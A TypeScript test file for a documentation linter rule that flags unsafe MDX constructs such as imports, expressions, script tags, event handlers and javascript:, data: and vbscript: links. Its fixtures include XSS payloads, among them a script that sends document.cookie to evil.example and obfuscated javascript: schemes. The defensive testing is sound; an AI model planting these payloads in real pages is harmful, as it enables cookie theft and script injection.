import { describe, expect, test } from 'vitest';
import type { ConfigInput } from '../../../schema/index.ts';
import { run } from '../../../../tests/helpers/playbook.ts';
import { rule, unsafeScheme } from './unsafe-mdx.ts';

/** A guide whose body starts on line 4. */
const guide = (body: string) => ({ 'guides/start.mdx': `---\ntitle: Getting started\n---\n${body}` });
const withCallout: ConfigInput = { mdx: { components: ['Callout', 'Figure'] } };

interface Invalid {
  name: string;
  body: string;
  config?: ConfigInput;
  line: number;
  column: number;
  message: RegExp;
  hint: RegExp;
}

describe('unsafe-mdx', () => {
  test.each<{ name: string; body: string; config?: ConfigInput }>([
    { name: 'Markdown and GFM', body: '# Title\n\n**Bold**, _italic_, ~~struck~~.\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n- [ ] task\n\nNote[^1].\n\n[^1]: Footnote.\n' },
    { name: 'lowercase HTML elements', body: '<details>\n<summary>More</summary>\n\n<div className="note">Text</div>\n\n</details>\n\n<img src="/images/chart.png" alt="Chart" />\n' },
    { name: 'safe links and images', body: '[Site](https://example.com) [Mail](mailto:a@example.com) [Guide](/guides/start/) [Up](#top) [Rel](../personas/x.mdx)\n\n![Logo](/images/logo.png)\n\n[ref]: https://example.com\n' },
    { name: 'an <a> with an https address', body: '<a href="https://example.com" title="data: the new oil">Read</a>\n' },
    { name: 'an allow-listed component', body: '<Callout type="tip">\n\nUse the fit check.\n\n</Callout>\n', config: withCallout },
    { name: 'a fragment', body: '<>Text</>\n' },
    { name: 'escaped braces', body: 'Write \\{ and \\} for braces.\n' },
    { name: 'an attribute named like a word starting with "on"', body: '<div title="online">x</div>\n' },
  ])('accepts $name', ({ body, config }) => {
    expect(run(guide(body), rule, { config })).toEqual([]);
  });

  test.each<Invalid>([
    {
      name: 'an import',
      body: 'import Chart from "../../rules/chart.js"\n\nText.\n',
      line: 4,
      column: 1,
      message: /^The body has an "import" statement\./,
      hint: /Delete the line/,
    },
    {
      name: 'an export',
      body: 'Text.\n\nexport const secret = process.env.TOKEN\n',
      line: 6,
      column: 1,
      message: /^The body has an "export" statement\./,
      hint: /Delete the line/,
    },
    {
      name: 'an expression in text',
      body: 'The TAM is {1000 * 12} accounts.\n',
      line: 4,
      column: 12,
      message: /^The body has a "\{…\}" expression \(\{1000 \* 12\}\)\. Expressions are JavaScript/,
      hint: /escape them: \\\{ and \\\}/,
    },
    {
      name: 'an expression on its own line',
      body: 'Intro.\n\n{process.env.GITHUB_TOKEN}\n',
      line: 6,
      column: 1,
      message: /\(\{process\.env\.GITHUB_TOKEN\}\)/,
      hint: /Write the text itself/,
    },
    {
      name: 'an MDX comment',
      body: '{/* reviewer note */}\n\nText.\n',
      line: 4,
      column: 1,
      message: /^The body has an MDX comment \(\{\/\* reviewer note \*\/\}\)/,
      hint: /leave notes for reviewers in the pull request/,
    },
    {
      name: 'a <script> element',
      body: 'Text.\n\n<script>fetch("https://evil.example/?" + document.cookie)</script>\n',
      line: 6,
      column: 1,
      message: /^The body uses a <script> element, which can run code/,
      hint: /cannot run scripts/,
    },
    {
      name: 'a <STYLE> element in capitals',
      body: '<STYLE>.nav \\{ display: none \\}</STYLE>\n',
      line: 4,
      column: 1,
      message: /<STYLE> element/,
      hint: /theme styles every page/,
    },
    {
      name: 'an <iframe>',
      body: '<iframe src="https://example.com/embed" />\n',
      line: 4,
      column: 1,
      message: /<iframe> element/,
      hint: /Link to the page instead/,
    },
    {
      name: 'an inline <object>',
      body: 'See <object data="/files/deck.pdf">deck</object>.\n',
      line: 4,
      column: 5,
      message: /<object> element/,
      hint: /Link to the file instead/,
    },
    {
      name: 'a <form>',
      body: '<form action="https://example.com/collect">\n\nEmail\n\n</form>\n',
      line: 4,
      column: 1,
      message: /<form> element/,
      hint: /Link to the form instead/,
    },
    {
      name: 'a <meta> refresh',
      body: '<meta httpEquiv="refresh" content="0; url=https://evil.example" />\n',
      line: 4,
      column: 1,
      message: /<meta> element/,
      hint: /sets page metadata itself/,
    },
    {
      name: 'an event handler attribute',
      body: '<img src="chart.png" onError="alert(1)" />\n',
      line: 4,
      column: 22,
      message: /^The <img> element has an "onError" attribute: event handlers run JavaScript/,
      hint: /Remove the attribute/,
    },
    {
      name: 'a lowercase event handler on a later line',
      body: '<div\n  title="x"\n  onmouseover="steal()"\n>\n  Hover\n</div>\n',
      line: 6,
      column: 3,
      message: /"onmouseover" attribute/,
      hint: /Remove the attribute/,
    },
    {
      name: 'a spread attribute',
      body: '<div {...props}>x</div>\n',
      line: 4,
      column: 6,
      message: /^The <div> element takes attributes from an expression \(\{\.\.\.props\}\)/,
      hint: /name="value"/,
    },
    {
      name: 'an attribute set to an expression',
      body: '<a href={"https://example.com"}>x</a>\n',
      line: 4,
      column: 4,
      message: /^The "href" attribute of <a> is an expression \(\{"https:\/\/example\.com"\}\)/,
      hint: /href="…"/,
    },
    {
      name: 'a javascript: link',
      body: 'Click [here](javascript:alert(document.cookie)).\n',
      line: 4,
      column: 7,
      message: /^The link uses a "javascript:" address/,
      hint: /https:\/\/ address or a playbook page/,
    },
    {
      name: 'a javascript: link hidden by a character reference',
      body: '[here](java&#10;script:alert(1))\n',
      line: 4,
      column: 1,
      message: /"javascript:" address/,
      hint: /https:/,
    },
    {
      name: 'a data: image',
      body: '![Chart](data:image/svg+xml;base64,PHN2Zz4=)\n',
      line: 4,
      column: 1,
      message: /^The image uses a "data:" address/,
      hint: /for images, link to a file/,
    },
    {
      name: 'a vbscript: link definition',
      body: 'See [the form][f].\n\n[f]: VBScript:MsgBox("hi")\n',
      line: 6,
      column: 1,
      message: /^The link definition "\[f\]" uses a "vbscript:" address/,
      hint: /https:/,
    },
    {
      name: 'a javascript: href with a tab reference, mixed case and spaces',
      body: '<a href="  JaVa&#x09;ScRiPt:alert(1)">x</a>\n',
      line: 4,
      column: 4,
      message: /^The "href" attribute of <a> uses a "javascript:" address/,
      hint: /https:/,
    },
    {
      name: 'a data: address in srcset',
      body: '<img srcset="/images/a.png 1x, data:image/png;base64,AAAA 2x" alt="" />\n',
      line: 4,
      column: 6,
      message: /"srcset" attribute of <img> uses a "data:" address/,
      hint: /https:/,
    },
    {
      name: 'a component when none is allowed',
      body: '<Chart kind="bar" />\n',
      line: 4,
      column: 1,
      message: /^The body uses the component <Chart>, which is not in the list of allowed components\.$/,
      hint: /^Allowed components: none\. To allow another one, ask an engineer to add it to mdx\.components in playbook\.yaml\.$/,
    },
    {
      name: 'a misspelt component',
      body: 'Text <Calout>tip</Calout>.\n',
      config: withCallout,
      line: 4,
      column: 6,
      message: /component <Calout>/,
      hint: /^Did you mean <Callout>\? Allowed components: <Callout>, <Figure>\./,
    },
    {
      name: 'a member-expression component',
      body: '<Icons.Warning />\n',
      config: withCallout,
      line: 4,
      column: 1,
      message: /component <Icons\.Warning>/,
      hint: /Allowed components: <Callout>, <Figure>/,
    },
  ])('reports $name', ({ body, config, line, column, message, hint }) => {
    const diagnostics = run(guide(body), rule, { config });
    expect(diagnostics).toHaveLength(1);
    expect(diagnostics[0]).toMatchObject({ file: 'content/guides/start.mdx', line, column, rule: 'unsafe-mdx', severity: 'error' });
    expect(diagnostics[0]!.message).toMatch(message);
    expect(diagnostics[0]!.hint).toMatch(hint);
  });

  test('reports each construct once, at its own position', () => {
    const body = '<script onload={run} {...p}>{code}</script>\n';
    expect(run(guide(body), rule).map(({ line, column, message }) => ({ line, column, message: message.slice(0, 40) }))).toEqual([
      { line: 4, column: 1, message: 'The body uses a <script> element, which ' },
      { line: 4, column: 9, message: 'The <script> element has an "onload" att' },
      { line: 4, column: 22, message: 'The <script> element takes attributes fr' },
      { line: 4, column: 29, message: 'The body has a "{…}" expression ({code})' },
    ]);
  });

  test('checks the bodies of every content type', () => {
    const files = {
      ...guide('Fine.\n'),
      'glossary/tam.mdx': '---\nterm: TAM\nshort: Total addressable market.\n---\n{1}\n',
    };
    expect(run(files, rule)).toEqual([expect.objectContaining({ file: 'content/glossary/tam.mdx', line: 5, column: 1 })]);
  });
});

describe('unsafeScheme', () => {
  test.each([
    ['javascript:alert(1)', 'javascript'],
    ['JAVASCRIPT:alert(1)', 'javascript'],
    ['  javascript:alert(1)', 'javascript'],
    ['java\tscript:alert(1)', 'javascript'],
    ['java\nscript:alert(1)', 'javascript'],
    ['\u0000javascript:x', 'javascript'],
    ['java\u200bscript:x', 'javascript'],
    ['&#106;avascript:x', 'javascript'],
    ['&#x6A;avascript&colon;x', 'javascript'],
    ['data:text/html,<script>', 'data'],
    ['vbscript:msgbox', 'vbscript'],
    ['https://example.com/javascript:', undefined],
    ['/guides/data:x/', undefined],
    ['mailto:a@example.com', undefined],
    ['#section', undefined],
  ])('%j → %s', (url, scheme) => {
    expect(unsafeScheme(url)).toBe(scheme);
  });
});
